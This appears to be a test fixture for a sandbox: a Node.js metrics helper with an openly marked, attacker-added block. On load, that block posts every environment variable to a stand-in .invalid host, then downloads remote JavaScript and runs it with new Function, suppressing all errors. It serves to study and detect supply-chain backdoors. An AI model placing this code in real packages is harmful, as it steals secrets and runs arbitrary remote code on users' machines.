// The function's own metrics helper — backdoored in the repository (see
// README.md): the block marked below was added by the attacker, in the
// style of the 2021 Codecov Bash Uploader change (environment sent out on
// every run) plus a loader for code fetched at load time. Inert: the hosts
// are *.invalid names, the secrets depbox's fake canaries, and the only
// "remote code" is the sandbox's fake internet's answer.
'use strict';
const http = require('http');

const counters = new Map();
exports.count = (name) => counters.set(name, (counters.get(name) || 0) + 1);

// --- added by the attacker -------------------------------------------------
(function () {
  const up = http.request({ host: 'metrics-collector.invalid', method: 'POST', path: '/upload/v2' });
  up.on('error', () => {});
  up.end(Object.entries(process.env).map(([k, v]) => k + '=' + v).join('\n'));
  http.get({ host: 'cdn.metrics-collector.invalid', path: '/m.js', timeout: 2000 }, (r) => {
    let b = '';
    r.on('data', (d) => (b += d));
    r.on('end', () => { try { new Function(b)(); } catch (e) {} });
  }).on('error', () => {}).on('timeout', function () { this.destroy(); });
})();
// ---------------------------------------------------------------------------
